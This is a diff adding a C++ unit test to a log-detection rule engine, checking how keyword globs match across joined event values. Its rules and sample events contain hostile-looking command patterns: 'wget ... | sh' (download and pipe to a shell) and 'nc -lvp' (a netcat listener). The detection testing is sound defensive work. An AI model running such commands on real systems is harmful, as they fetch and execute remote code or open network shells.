@@ -1,6 +1,7 @@
 // Data-driven engine regression cases: every file in tests/cases/*.yml holds rules, events
 // and the rule ids each event must fire. One parameterised test runs them all.
 
+#include <algorithm>
 #include <filesystem>
 #include <set>
 
@@ -153,6 +154,69 @@ detection:
     none.Add("COMMAND", "/bin/true", event::ValueKind::kString,
              static_cast<uint32_t>(none.message.find("/bin/")));
     EXPECT_FALSE(fires(none));
+}
+
+TEST(EngineTest, KeywordGlobsMatchWithinOneValueInTheJoinedScan) {
+    // One logsource group with a literal, a wildcard keyword and a cased keyword: the literal
+    // and the wildcard are scanned once over the joined values, the cased one value by value.
+    // Either way a wildcard spans only one value, as when each value is scanned alone.
+    Engine engine;
+    config::Diagnostics diags;
+    engine.LoadString(R"(title: glob
+id: glob
+logsource: {product: linux}
+detection:
+    keywords: ['wget * | sh']
+    condition: keywords
+---
+title: literal
+id: literal
+logsource: {product: linux}
+detection:
+    keywords: ['nc -lvp']
+    condition: keywords
+---
+title: cased
+id: cased
+logsource: {product: linux}
+detection:
+    keywords:
+        '|cased': EVIL
+    condition: keywords
+)",
+                      "kw.yml", diags);
+    ASSERT_TRUE(engine.Compile(diags));
+    ASSERT_EQ(engine.stats().rules_rejected, 0u) << diags.items().front().ToString();
+    Matcher matcher(engine);
+    auto fired = [&](const event::Event& ev) {
+        std::vector<Match> out;
+        matcher.Match(ev, out);
+        std::vector<std::string> ids;
+        for (const Match& m : out) ids.push_back(engine.rule(m.rule).meta.id);
+        std::sort(ids.begin(), ids.end());
+        return ids;
+    };
+    auto make = [](std::string message, std::vector<std::string> values) {
+        event::Event ev;
+        ev.logsource.product = "linux";
+        ev.message = std::move(message);
+        for (size_t i = 0; i < values.size(); ++i)
+            ev.Add("f" + std::to_string(i), values[i], event::ValueKind::kString, 0xffffffffu);
+        return ev;
+    };
+    using V = std::vector<std::string>;
+    // In the message, caseless.
+    EXPECT_EQ(fired(make("bash -c WGET http://x/a | SH", {})), V{"glob"});
+    // In one value only.
+    EXPECT_EQ(fired(make("exec", {"curl", "wget http://x/a | sh"})), V{"glob"});
+    // Its two halves in two values: no match, as value by value.
+    EXPECT_EQ(fired(make("exec", {"wget http://x/a", " | sh"})), V{});
+    // A value holding the separator byte cannot cut the wildcard short.
+    EXPECT_EQ(fired(make("exec", {std::string("wget http://x/\x1e") + "a | sh"})), V{"glob"});
+    EXPECT_EQ(fired(make(std::string("wget \x1e | sh"), {})), V{"glob"});
+    // The literal and the cased keyword beside it.
+    EXPECT_EQ(fired(make("x", {"NC -LVP 4444", "EVIL"})), (V{"cased", "literal"}));
+    EXPECT_EQ(fired(make("x", {"nc -lvp 4444", "evil"})), V{"literal"});
 }
 
 INSTANTIATE_TEST_SUITE_P(Cases, EngineCase, ::testing::ValuesIn(CaseFiles()),
